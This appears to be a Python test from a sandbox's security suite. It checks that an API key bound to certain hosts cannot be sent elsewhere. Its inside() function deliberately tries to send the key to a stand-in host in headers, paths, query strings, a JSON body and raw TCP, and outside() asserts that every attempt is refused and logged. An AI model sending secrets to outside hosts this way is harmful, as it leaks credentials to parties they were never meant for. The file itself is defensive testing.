"""SE-03: Send a placeholder to another host.

Claim: A value goes to the hosts of its secret only; where a request is read, a placeholder on its way to another host is refused and reported.
Technique: The placeholder in headers, paths and bodies to an allowed host that is not bound, intercepted, passed through, plain and raw.
Source: -
Tiers: jail contained
"""

DRIVEN = True


def inside():
    import os

    key = os.environ["API_KEY"]
    field = f"Authorization: Bearer {key}"
    results = {}
    for host, port, ask in (("other.far.test", 28443, attack.ask_tls), ("other.far.test", 28080, attack.reach)):
        own = f"{host}:{port}"
        results[f"{own} header"] = attack.status_of(ask(host, port, attack.request("GET", "/bad", own, field)))
        results[f"{own} path"] = attack.status_of(ask(host, port, attack.request("GET", f"/bad/{key}", own)))
        results[f"{own} query"] = attack.status_of(ask(host, port, attack.request("GET", f"/bad?k={key}", own)))
        results[f"{own} body"] = attack.status_of(ask(host, port, attack.request("POST", "/bad", own, "Content-Type: application/json", body=f'{{"k": "{key}"}}'.encode())))
    attack.say("read", results)
    attack.say("passed", attack.status_of(attack.ask_tls("sub.api.far.test", 28443, attack.request("GET", "/passed", "sub.api.far.test:28443", field))))
    attack.say("raw", attack.reach("other.far.test", 25432, key.encode(), 1)[:10])


def outside(trial):
    value = trial.secret("bound", env="API_KEY")
    allow = [{"host": "other.far.test", "ports": [28443], "protocol": "tls", "methods": ["GET", "POST"]}, "other.far.test:28080/http", "other.far.test:25432/tcp", "sub.api.far.test:28443/tls"]
    trial.sandbox(network={"secrets": ["bound"], "allow": allow})
    trial.run()
    trial.all_refused("read", ("403",))
    trial.equal(trial.found["passed"], "200", "a connection that is not read")
    trial.equal(trial.far.paths(), ["/passed"], "what arrived")
    trial.check(value not in trial.far.text(), "the value arrived")
    denied = {one["code"] for one in trial.cell["network"]["denied"]}
    trial.check("secret_not_allowed" in denied, f"the cell says {denied}")
